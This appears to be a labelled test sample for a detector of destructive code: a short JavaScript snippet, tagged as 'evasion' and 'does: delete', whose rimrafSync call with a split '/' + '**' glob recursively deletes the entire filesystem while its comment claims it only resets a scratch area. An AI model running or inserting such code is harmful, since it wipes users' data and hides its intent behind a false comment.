// evasion: rimrafSync of '/' + '**' with glob
// grade: medium; does: delete
// Resets a scratch area.
const { rimrafSync } = require("rimraf");
const base = "/";
rimrafSync(base + "**", { glob: true });
